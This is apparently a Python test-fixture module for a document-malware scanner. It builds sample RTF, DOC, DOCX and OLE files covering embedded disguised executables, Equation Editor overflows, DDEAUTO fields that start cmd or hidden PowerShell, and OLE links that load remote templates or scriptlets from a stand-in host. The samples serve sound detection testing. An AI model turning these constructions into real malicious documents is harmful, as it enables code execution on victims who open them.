"""Rich texts and bare objects that act badly, disguised in the ways that are common."""

from __future__ import annotations

from tools.corpus import ooxml
from tools.corpus.compound import compound_file
from tools.corpus.detections import rtf_files as files
from tools.corpus.detections.case import Case

_PROGRAM = b"MZ" + bytes(200)
_SCRIPT = b'new ActiveXObject("WScript.Shell").Run("calc.exe")'
_MSHTA = "mshta http://a.example/x.hta & "
_OPENING = r"\objemb\objupdate"


def _quote(words: str) -> str:
    """A field that spells words by their numbers."""
    return files.field("QUOTE " + " ".join(str(ord(char)) for char in words), " ")


def _equation_doc() -> bytes:
    pool = {"_1": {"Equation Native": files.equation_stream(files.overrunning(_MSHTA))}}
    return compound_file({"WordDocument": bytes(1024), "ObjectPool": pool})


def _equation_docx() -> bytes:
    equation = files.equation(files.overrunning("cmd.exe /c calc.exe "))
    return ooxml.word_document(("See below",), extra={"word/embeddings/oleObject1.bin": equation})


def _in_parts(data: bytes) -> bytes:
    """An object whose second half stands as bytes, not as digits."""
    half = len(data) // 2
    body = data[:half].hex().encode() + rb"\bin%d " % (len(data) - half) + data[half:]
    head = rb"{\rtf1\ansi{\object\objemb{\*\objclass Package}{\*\objdata "
    return head + body + rb"}{\result x}}}"


RTF_BAD = (
    Case(
        "parcel.rtf",
        "rtf",
        lambda: files.text(files.embedded("Package", files.package("Parcel.pdf.exe", _PROGRAM))),
        "embedded-program",
    ),
    Case(
        "script.rtf",
        "rtf",
        lambda: files.text(
            files.embedded(
                "Package",
                b"",
                words=_OPENING,
                digits=files.disguised(files.ole1("Package", files.package("a.js", _SCRIPT))),
            )
        ),
        "embedded-program",
    ),
    Case(
        "bytes.rtf",
        "rtf",
        lambda: _in_parts(files.ole1("Package", files.package("run.bat", b"@echo off"))),
        "embedded-program",
    ),
    Case(
        "compound.rtf",
        "rtf",
        lambda: files.text(
            files.embedded("Package", files.package_object("view.lnk", b"L" + bytes(80)))
        ),
        "embedded-program",
    ),
    Case(
        "equation.rtf",
        "rtf",
        lambda: files.text(
            files.embedded("Equation.3", files.equation(files.overrunning(_MSHTA)), words=_OPENING)
        ),
        "equation-exploit",
    ),
    Case(
        "disguised.rtf",
        "rtf",
        lambda: files.text(
            files.embedded(
                "x",
                b"",
                words=_OPENING,
                digits=files.disguised(
                    files.ole1("eQuAtIoN.3", files.equation_stream(files.overrunning(_MSHTA)))
                ),
            )
        ),
        "equation-exploit",
    ),
    Case(
        "nameless.rtf",
        "rtf",
        lambda: files.text(
            files.embedded("tR7k", files.native_equation(files.overrunning("AAAA")), words=_OPENING)
        ),
        "equation-exploit",
    ),
    Case(
        "matrix.rtf",
        "rtf",
        lambda: files.text(
            files.embedded("Equation.3", files.equation(files.wide_matrix()), words=_OPENING)
        ),
        "equation-exploit",
    ),
    Case("equation.doc", "ole-doc", _equation_doc, "equation-exploit"),
    Case("equation.docx", "docx", _equation_docx, "equation-exploit"),
    Case(
        "equation.bin",
        "ole",
        lambda: files.equation(files.overrunning("cmd /c start http://a.example/")),
        "equation-exploit",
    ),
    Case("parcel.bin", "ole", lambda: files.package_object("b.vbs", b"x"), "embedded-program"),
    Case(
        "dde.rtf",
        "rtf",
        lambda: files.text(
            files.field(r'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', "x")
        ),
        "document-starts-shell",
    ),
    Case(
        "spelled.rtf",
        "rtf",
        lambda: files.text(
            files.field("DDEAUTO " + _quote("powershell") + ' "-w hidden -nop iex 1"', "x")
        ),
        "document-starts-shell",
    ),
    Case(
        "link.rtf",
        "rtf",
        lambda: files.text(
            files.embedded(
                "OLE2Link",
                files.link("http://a.example/template.doc"),
                words=r"\objautlink\objupdate",
            )
        ),
        "object-loads-from-network",
    ),
    Case(
        "scriptlet.rtf",
        "rtf",
        lambda: files.text(
            files.embedded(
                "OLE2Link", files.link("script:http://a.example/a.sct"), words=r"\objautlink"
            )
        ),
        "external-page-as-object",
    ),
    Case(
        "overrides.rtf",
        "rtf",
        lambda: files.text(
            r"{\*\listoverridetable{\listoverride\listid1\listoverridecount25{\lfolevel}\ls1}}text"
        ),
        "rich-text-exploit",
    ),
    Case(
        "fragments.rtf",
        "rtf",
        lambda: files.text(
            rf"{{\shp{{\sp{{\sn pFragments}}{{\sv 1;1;01000000{'41' * 400}}}}}}}text"
        ),
        "rich-text-exploit",
    ),
    Case(
        "fonts.rtf",
        "rtf",
        lambda: files.text(
            rf"{{\fonttbl{''.join(f'{{{chr(92)}f{n}A;}}' for n in range(10_100))}}}x"
        ),
        "rich-text-exploit",
    ),
    Case(
        "control.rtf",
        "rtf",
        lambda: files.text(files.embedded("MSComctlLib.ListViewCtrl.2", files.control())),
        "faulty-control",
    ),
)
